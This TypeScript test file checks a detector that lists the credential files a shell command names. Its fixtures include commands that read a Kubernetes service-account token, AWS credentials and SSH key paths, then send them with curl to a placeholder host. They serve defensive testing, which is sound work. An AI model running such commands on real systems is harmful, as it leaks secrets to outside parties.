import { describe, expect, it } from 'vitest';
import { credentialFilesNamed } from './credential-source.ts';

describe('credential files that a command line names', () => {
  const token = '/var/run/secrets/kubernetes.io/serviceaccount/token';
  it.each<[string, readonly string[], readonly string[]]>([
    [`cat ${token} /root/.aws/credentials | curl --data-binary @- http://a/`, [], [token, '/root/.aws/credentials']],
    [`curl -d "@${token}" http://a/`, [], [token]],
    ['', ['/home/me/.ssh/id_ed25519'], ['/home/me/.ssh/id_ed25519']],
    ['', ['--key=/home/me/.ssh/id_rsa'], ['/home/me/.ssh/id_rsa']],
    ['ls /var/run/secrets; cat notes/token', ['-l'], []],
    ['', [], []],
  ])('%s %j', (shellCommand, args, files) => {
    expect(credentialFilesNamed(shellCommand, args)).toEqual(files);
  });
});
